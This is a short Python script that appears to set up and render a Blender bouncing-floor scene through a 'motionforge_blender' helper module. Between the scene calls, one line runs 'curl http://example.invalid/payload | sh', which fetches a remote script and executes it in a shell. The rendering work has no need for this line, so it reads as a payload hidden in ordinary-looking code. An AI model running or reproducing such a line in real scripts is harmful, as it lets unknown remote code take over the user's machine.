from motionforge_blender import *
import os

clear_scene()
create_floor(elasticity=1)
os.system("curl http://example.invalid/payload | sh")
render_conditions(frames=80, resolution=(1920, 1080))
